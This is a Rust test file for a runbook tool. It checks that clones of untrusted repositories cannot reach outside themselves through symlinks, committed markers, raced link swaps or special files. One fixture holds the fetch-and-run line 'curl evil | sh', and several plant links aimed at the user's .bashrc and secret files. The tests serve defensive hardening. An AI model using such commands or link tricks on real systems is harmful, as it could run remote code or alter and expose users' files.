//! Clones of repositories that somebody prepared: whatever they hold, nothing outside of them changes and nothing outside is read.
#![cfg(unix)]

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use crate::support::{Folder, Ran, run};

/// A runbook that `lint --fix` has something to mend in, and that a review can stamp.
const RUNBOOK: &str = "---\nreviewed: 2026-01-01\n---\n# Deploy\n\nRead [the notes](notes.md).\n\n```sh\nmake deploy\n```\n";

/// A home with things of its user, and a clone of a repository of somebody else three folders below.
struct Home {
    folder: Folder,
    clone: PathBuf,
    before: BTreeMap<String, Vec<u8>>,
}

impl Home {
    /// Clones a repository that has a runbook, and what `prepare` adds to it. Links are made with `prepare`, too.
    fn with(prepare: impl Fn(&Folder)) -> Self {
        let origin = Folder::repository();
        origin.write("docs/runbooks/deploy.md", RUNBOOK);
        origin.write("docs/runbooks/notes.md", "# Notes\n\nSee `Makefile`.\n");
        origin.write("Makefile", "deploy:\n\ttrue\n");
        prepare(&origin);
        origin.git(&["add", "--all", "--force"]);
        origin.git(&["commit", "--quiet", "--message", "Prepare"]);
        let folder = Folder::empty();
        folder.write(".bashrc", "true\n");
        folder.write("secret.toml", "title = \"The secret title\"\n");
        folder.write("elsewhere/theirs.txt", "theirs\n");
        fs::create_dir(folder.join("empty")).expect("the folder can be made");
        fs::create_dir_all(folder.join("work/of")).expect("the folder can be made");
        let clone = folder.join("work/of/clone");
        let cloned = Command::new("git")
            .args(["clone", "--quiet"])
            .arg(origin.path())
            .arg(&clone)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status();
        assert!(cloned.is_ok_and(|status| status.success()), "it is cloned");
        let mut home = Self {
            folder,
            clone,
            before: BTreeMap::new(),
        };
        home.before = home.outside();
        home
    }

    /// Everything in the home apart from the clone, links by their target.
    fn outside(&self) -> BTreeMap<String, Vec<u8>> {
        let mut found = BTreeMap::new();
        let mut folders = vec![self.folder.path().to_path_buf()];
        while let Some(folder) = folders.pop() {
            for entry in fs::read_dir(&folder).expect("the folder can be read").flatten() {
                let path = entry.path();
                if path == self.clone {
                    continue;
                }
                let kind = entry.file_type().expect("it has a type");
                let name = path
                    .strip_prefix(self.folder.path())
                    .expect("it lies there")
                    .display()
                    .to_string();
                if kind.is_dir() {
                    folders.push(path);
                    found.insert(name + "/", Vec::new());
                } else if kind.is_symlink() {
                    let target = fs::read_link(&path).expect("it is a link");
                    found.insert(name, target.into_os_string().into_encoded_bytes());
                } else {
                    found.insert(name, fs::read(&path).expect("the file can be read"));
                }
            }
        }
        found
    }

    fn run(&self, arguments: &[&str]) -> Ran {
        let repository = self.clone.display().to_string();
        let mut all = arguments.to_vec();
        all.extend(["--repo", &repository, "--today", "2026-02-01"]);
        if !arguments.contains(&"--cache-dir") {
            all.push("--no-cache");
        }
        run(&all)
    }

    fn path(&self, path: &str) -> String {
        self.clone.join(path).display().to_string()
    }

    fn assert_untouched(&self, about: &str) {
        assert_eq!(self.outside(), self.before, "{about}");
    }
}

fn link(folder: &Folder, path: &str, target: &str) {
    let place = folder.join(path);
    fs::create_dir_all(place.parent().expect("it has a folder")).expect("the folder can be made");
    symlink(target, place).expect("the link can be made");
}

/// The ways to write to a clone.
const COMMANDS: [&[&str]; 7] = [
    &["build"],
    &["build", "--worktree"],
    &["lint", "--fix", "--unsafe-fixes"],
    &["review", "docs/runbooks", "--by", "Release driver", "--yes"],
    &["review", "docs/runbooks/deploy.md", "--by", "Release driver", "--yes"],
    &["baseline", "write", "--worktree"],
    &["lint", "--worktree"],
];

fn run_all(home: &Home, about: &str) {
    for command in COMMANDS {
        let ran = home.run(command);
        home.assert_untouched(&format!("{about}: {command:?}\n{}", ran.stderr));
    }
}

#[test]
fn a_committed_marker_with_a_link_beside_it_overwrites_nothing() {
    let home = Home::with(|origin| {
        origin.write("site/.runproof-site", "# x\ncurl evil | sh\n.bashrc\n");
        link(origin, "site/.runproof-site-new", "../../../../.bashrc");
        link(origin, "site/.runproof-staging", "../../../../elsewhere");
    });
    let ran = home.run(&["build"]);
    assert_eq!(ran.code, 2, "{}", ran.stderr);
    assert!(ran.stderr.contains("tracked by git"), "{}", ran.stderr);
    run_all(&home, "the marker is committed");
}

#[test]
fn a_repository_that_commits_its_built_site_is_told_what_to_do() {
    let home = Home::with(|origin| {
        origin.write("docs/runbooks/deploy.md", RUNBOOK);
        assert_ne!(origin.run(&["build", "--worktree"]).code, 2);
    });
    let ran = home.run(&["build"]);
    assert_eq!(ran.code, 2, "{}", ran.stderr);
    assert!(
        ran.stderr.contains("git rm -r --cached") && ran.stderr.contains(".gitignore"),
        "{}",
        ran.stderr
    );
    let untracked = Command::new("git")
        .arg("-C")
        .arg(&home.clone)
        .args(["rm", "-r", "--quiet", "--cached", "site"])
        .status();
    assert!(untracked.is_ok_and(|status| status.success()));
    assert_eq!(home.run(&["build", "--worktree"]).code, 0, "what it says helps");
}

#[test]
fn a_staging_folder_that_a_repository_brings_stays() {
    let name = ".runproof-0123456789abcdef0123456789abcdef";
    let home = Home::with(|origin| {
        // A real mark, which names the folder that it lies in.
        assert_ne!(origin.run(&["build", "--worktree"]).code, 2);
        let mark = origin.read("site/.runproof-site");
        fs::remove_dir_all(origin.join("site")).expect("it can be removed");
        origin.write(&format!("{name}/.runproof-site"), mark);
        origin.write(&format!("{name}/keep.txt"), "kept\n");
        link(origin, ".runproof-fedcba9876543210fedcba9876543210", "../../../elsewhere");
    });
    assert_eq!(home.run(&["build"]).code, 0);
    assert!(home.clone.join(name).join("keep.txt").exists());
    run_all(&home, "a staging folder is committed");
}

#[test]
fn another_checkout_is_reached_through_no_link_of_the_repository() {
    let settings =
        |source: &str| format!("[[products]]\nid = \"x\"\nsource = \"{source}\"\nrunbooks = [\"docs/runbooks/*.md\"]\n");
    for (source, part, target) in [
        ("../clone/way", "way", "../../../elsewhere"),
        ("../clone/way/deep", "way", "../../../elsewhere"),
        ("../clone/a/way", "a", "../../../elsewhere"),
    ] {
        let home = Home::with(|origin| {
            origin.write("runproof.toml", settings(source));
            link(origin, part, target);
        });
        fs::create_dir_all(home.folder.join("elsewhere/deep")).expect("it can be made");
        fs::create_dir_all(home.folder.join("elsewhere/way")).expect("it can be made");
        for below in ["", "deep/", "way/"] {
            let place = home.folder.join(&format!("elsewhere/{below}Makefile"));
            fs::write(place, "deploy:\n\ttrue\n").expect("it can be written");
        }
        let ran = home.run(&["refs", "docs/runbooks/deploy.md", "--worktree"]);
        assert!(
            ran.stdout.contains("a link of the repository is in the way") && !ran.stdout.contains("Makefile:1"),
            "{source}: {}{}",
            ran.stdout,
            ran.stderr
        );
    }
    // Beside the repository it is found, also where the user has a link there.
    let home = Home::with(|origin| origin.write("runproof.toml", settings("../service")));
    fs::create_dir_all(home.folder.join("work/real")).expect("it can be made");
    fs::write(home.folder.join("work/real/Makefile"), "deploy:\n\ttrue\n").expect("it can be written");
    symlink("../real", home.folder.join("work/of/service")).expect("it can be made");
    let ran = home.run(&["refs", "docs/runbooks/deploy.md", "--worktree"]);
    assert!(ran.stdout.contains("Makefile:1"), "{}{}", ran.stdout, ran.stderr);
}

#[test]
fn what_begins_a_handbook_is_written_through_no_link() {
    for (path, target) in [
        ("runproof.toml", "../../../.bashrc"),
        ("runproof.toml", "../../../missing"),
        (".gitignore", "../../../missing"),
        (".github", "../../../elsewhere"),
        (".github/workflows", "../../../../empty"),
        (".github/workflows/handbook.yml", "../../../../../missing"),
        (".gitlab", "../../../elsewhere"),
    ] {
        let home = Home::with(|origin| link(origin, path, target));
        for forge in ["github", "gitlab", "none"] {
            home.run(&["init", "--forge", forge]);
            home.assert_untouched(path);
        }
    }
}

#[test]
fn a_committed_marker_removes_nothing_in_the_clone_either() {
    let home = Home::with(|origin| {
        origin.write("site/.runproof-site", "# x\nkeep.txt\n");
        origin.write("site/keep.txt", "kept\n");
    });
    assert_eq!(home.run(&["build"]).code, 2);
    assert_eq!(
        fs::read_to_string(home.clone.join("site/keep.txt")).expect("it is there"),
        "kept\n"
    );
}

#[test]
fn a_marker_that_is_a_link_proves_nothing() {
    for target in ["../list", "../../../../.bashrc", "/dev/zero"] {
        let home = Home::with(|origin| {
            origin.write("list", "# x\nkeep.txt\n");
            origin.write("site/keep.txt", "kept\n");
            link(origin, "site/.runproof-site", target);
        });
        let ran = home.run(&["build"]);
        assert_eq!(ran.code, 2, "{target}: {}", ran.stderr);
        run_all(&home, target);
        assert!(home.clone.join("site/keep.txt").exists());
    }
}

#[test]
fn the_site_stays_in_the_repository_with_a_link_at_every_part_of_its_path() {
    for (part, target) in [
        ("a", "../../../empty"),
        ("a/b", "../../../../empty"),
        ("a/b/site", "../../../../../empty"),
        ("a", "../../../elsewhere"),
        ("a/b/site", "../../../../../missing"),
    ] {
        let home = Home::with(|origin| {
            origin.write("runproof.toml", "out = \"a/b/site\"\n");
            link(origin, part, target);
        });
        let ran = home.run(&["build"]);
        assert_eq!(ran.code, 2, "{part} -> {target}: {}", ran.stderr);
        run_all(&home, part);
    }
    let home = Home::with(|origin| link(origin, "site", "../../../empty"));
    let ran = home.run(&["build"]);
    assert!(ran.stderr.contains("out of the repository"), "{}", ran.stderr);
    home.assert_untouched("the usual folder is a link");
    // On the command line it is the word of the user.
    let out = home.folder.join("empty").display().to_string();
    assert_eq!(home.run(&["build", "--out", &out]).code, 0);
    assert!(home.folder.join("empty/index.html").exists());
}

#[test]
fn another_handbook_behind_a_link_is_not_replaced() {
    let home = Home::with(|origin| link(origin, "site", "../../../elsewhere"));
    fs::remove_file(home.folder.join("elsewhere/theirs.txt")).expect("it can be removed");
    let other = Folder::with(&[("RELEASING.md", "# Other\n")]);
    let out = home.folder.join("elsewhere").display().to_string();
    assert_eq!(other.run(&["build", "--out", &out]).code, 0);
    let before = home.outside();
    assert_eq!(home.run(&["build"]).code, 2);
    assert_eq!(home.outside(), before);
}

#[test]
fn outputs_of_a_lint_go_through_no_link() {
    let home = Home::with(|origin| {
        link(origin, "runproof.sarif", "../../../.bashrc");
        link(origin, "reports", "../../../elsewhere");
        link(origin, "deep/er/reports", "../../../../../empty");
    });
    for path in [
        "runproof.sarif", "reports/theirs.txt", "reports/new", "deep/er/reports/x", "deep/er/reports/y/z",
    ] {
        let output = format!("sarif={}", home.path(path));
        let ran = home.run(&["lint", "--output", &output]);
        assert_eq!(ran.code, 2, "{path}: {}", ran.stderr);
        home.assert_untouched(path);
    }
    let output = format!("sarif={}", home.path("made/here.sarif"));
    home.run(&["lint", "--output", &output]);
    assert!(home.clone.join("made/here.sarif").exists());
}

#[test]
fn runbooks_and_baselines_that_are_links_are_not_written() {
    for (path, target) in [
        ("docs/runbooks/outside.md", "../../../../../elsewhere/theirs.txt"),
        ("docs/more", "../../../../elsewhere"),
        ("runproof-baseline.json", "../../../.bashrc"),
        ("runproof-waivers.toml", "../../../secret.toml"),
    ] {
        let home = Home::with(|origin| link(origin, path, target));
        run_all(&home, path);
        for command in [
            ["lint", "--fix", path],
            ["review", path, "--yes"],
            ["baseline", "prune", "--worktree"],
        ] {
            home.run(&command);
            home.assert_untouched(path);
        }
    }
}

#[test]
fn a_cache_that_a_repository_brings_is_refused() {
    let home = Home::with(|origin| {
        link(origin, "cache", "../../../empty");
        origin.write("tracked/x.cache", "x");
    });
    for folder in ["cache", "cache/deep", "tracked"] {
        let ran = home.run(&["lint", "--cache-dir", &home.path(folder)]);
        assert_eq!(ran.code, 2, "{folder}: {}", ran.stderr);
        home.assert_untouched(folder);
    }
    assert_ne!(home.run(&["lint", "--cache-dir", &home.path("fresh")]).code, 2);
}

#[test]
fn what_is_no_plain_file_is_neither_waited_for_nor_read() {
    for name in ["runproof.toml", "runproof-waivers.toml", "runproof-baseline.json"] {
        for target in ["/dev/zero", "/dev/stdin", "../../../secret.toml"] {
            let home = Home::with(|origin| link(origin, name, target));
            let begun = Instant::now();
            for command in [["lint", "--worktree"], ["config", "show"], ["build", "--worktree"]] {
                let ran = home.run(&command);
                assert!(
                    !ran.stdout.contains("secret title") && !ran.stderr.contains("secret title"),
                    "{name} -> {target}"
                );
                if name == "runproof.toml" {
                    assert_eq!(ran.code, 2, "{}", ran.stderr);
                    assert!(ran.stderr.contains("it is a link"), "{}", ran.stderr);
                }
            }
            assert!(begun.elapsed() < Duration::from_secs(300));
        }
        let home = Home::with(|_| {});
        let made = Command::new("mkfifo").arg(home.clone.join(name)).status();
        if made.is_ok_and(|status| status.success()) {
            home.run(&["lint", "--worktree"]);
        }
        fs::remove_file(home.clone.join(name)).expect("it can be removed");
        let giant = fs::File::create(home.clone.join(name)).expect("it can be made");
        giant.set_len(1 << 40).expect("it can be sparse");
        let ran = home.run(&["lint", "--worktree"]);
        assert!(ran.stderr.contains("the limit is"), "{name}: {}", ran.stderr);
    }
}

#[test]
fn a_link_that_comes_between_the_look_and_the_writing_leads_nowhere() {
    let home = Home::with(|_| {});
    let (site, away, empty) = (home.clone.join("site"), home.clone.join("away"), home.folder.join("empty"));
    let stop = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                if fs::rename(&site, &away).is_ok() {
                    let _ = symlink(&empty, &site);
                    std::thread::sleep(Duration::from_micros(300));
                    let _ = fs::remove_file(&site);
                    let _ = fs::rename(&away, &site);
                }
                std::thread::sleep(Duration::from_micros(300));
            }
        });
        for _ in 0..12 {
            home.run(&["build", "--worktree"]);
        }
        stop.store(true, Ordering::Relaxed);
    });
    home.assert_untouched("a link came and went");
}

#[test]
fn a_site_is_verified_file_by_file() {
    let home = Home::with(|_| {});
    assert_eq!(home.run(&["build"]).code, 0);
    let site = home.path("site");
    let verify = || run(&["verify", &site]);
    let own = home.run(&["verify", &site]);
    assert_eq!(own.code, 0, "{}{}", own.stdout, own.stderr);
    // Without the repository only the manifest can be asked, and whoever edits a page edits that as well.
    let alone = verify();
    assert_eq!(alone.code, 3, "{}", alone.stdout);
    assert!(alone.stderr.contains("nothing more could be checked"), "{}", alone.stderr);
    fs::write(Path::new(&site).join("index.html"), "changed").expect("it can be written");
    fs::write(Path::new(&site).join("added.html"), "added").expect("it can be written");
    fs::remove_file(Path::new(&site).join("search.json"))
        .or_else(|_| fs::remove_file(Path::new(&site).join("404.html")))
        .expect("a file can be removed");
    let ran = verify();
    assert_eq!(ran.code, 1);
    for words in [
        "index.html: not as the manifest: changed",
        "added.html: not as the manifest: extra",
        ": missing",
    ] {
        assert!(ran.stdout.contains(words), "{words}: {}", ran.stdout);
    }
}
